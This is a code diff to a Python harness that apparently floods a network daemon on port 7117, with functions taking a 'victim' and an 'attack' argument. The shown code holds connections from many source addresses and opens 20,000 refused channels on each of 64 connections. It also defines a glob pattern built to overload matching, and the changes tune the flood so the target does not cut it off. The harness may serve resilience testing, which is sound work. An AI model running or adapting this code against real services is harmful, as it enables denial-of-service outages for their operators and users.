@@ -19,7 +19,7 @@ import time
 PORT = 7117
 SECONDS_MAX = 240
 QUERY_BYTES = 1200
-CHANNELS_MAX = 20_000
+CHANNELS_MAX, BATCH, REFUSAL_BYTES = 20_000, 100, 38
 # A pattern over the limits of a careful reader: a star, and brackets that each cost a look at a long list.
 PATTERN = "*" + ("[!" + "~" * 60 + "]") * 12 + "~"
 
@@ -230,21 +230,24 @@ def idle(victim, attack):
     sources = addresses(attack, -(-count // per_address))
     resource.setrlimit(resource.RLIMIT_NOFILE, (count + 1024, count + 1024))
     selector, pace, said_ready = selectors.DefaultSelector(), Pace(2_000), False
-    deadline, held = time.monotonic() + 30, dict.fromkeys(sources, 0)
+    held, most, grown = dict.fromkeys(sources, 0), 0, time.monotonic()
     while True:
         if len(selector.get_map()) < count:
             pace.wait()
             source = min(held, key=held.get)
+            held[source] += 1
             try:
                 sock = dial(victim, source)
                 sock.sendall(hello(peer_id()))
                 sock.setblocking(False)
                 selector.register(sock, selectors.EVENT_READ, source)
-                held[source] += 1
             except OSError:
-                time.sleep(0.05)
-        full = len(selector.get_map()) >= count * 95 // 100 or time.monotonic() > deadline
-        if full and not said_ready:
+                held[source] -= 1
+                time.sleep(0.01)
+        if len(selector.get_map()) > most:
+            most, grown = len(selector.get_map()), time.monotonic()
+        # It is full when there are no more for a while.
+        if not said_ready and (most == count or time.monotonic() - grown > 3):
             said_ready, pace = True, Pace(200)
             ready()
         for key, _ in selector.select(0 if len(selector.get_map()) < count else 0.05):
@@ -303,33 +306,35 @@ def complaints(victim, attack):
 
 
 def channels(victim, attack):
-    """64 connections, each of which opens 20,000 contents that nobody has."""
+    """64 connections, each of which opens 20,000 contents that nobody has, as fast as they are refused."""
 
     def open_all():
         try:
             sock = dial(victim)
             sock.sendall(hello(peer_id()))
-            threading.Thread(target=read_on, args=[sock], daemon=True).start()
-            for first in range(0, CHANNELS_MAX, 500):
-                sock.sendall(b"".join(opening(first + at, os.urandom(32)) for at in range(500)))
+            for first in range(0, CHANNELS_MAX, BATCH):
+                sock.sendall(b"".join(opening(first + at, os.urandom(32)) for at in range(BATCH)))
+                # Who asks faster than it reads is closed.
+                answered = 0
+                while answered < BATCH * REFUSAL_BYTES:
+                    piece = sock.recv(1 << 16)
+                    if not piece:
+                        return
+                    answered += len(piece)
+            opened.release()
             sock.settimeout(None)
-        except OSError:
-            return
-
-    def read_on(sock):
-        try:
             while piece := sock.recv(1 << 16):
                 if PING in piece:
                     sock.sendall(PONG)
         except OSError:
             pass
 
-    openers = [threading.Thread(target=open_all, daemon=True) for _ in range(64)]
-    for opener in openers:
-        opener.start()
-    for opener in openers:
-        opener.join(30)
-    time.sleep(1)
+    opened = threading.Semaphore(0)
+    for _ in range(64):
+        threading.Thread(target=open_all, daemon=True).start()
+    deadline = time.monotonic() + 30
+    for _ in range(64):
+        opened.acquire(timeout=max(0.0, deadline - time.monotonic()))
     ready()
     time.sleep(SECONDS_MAX)
 
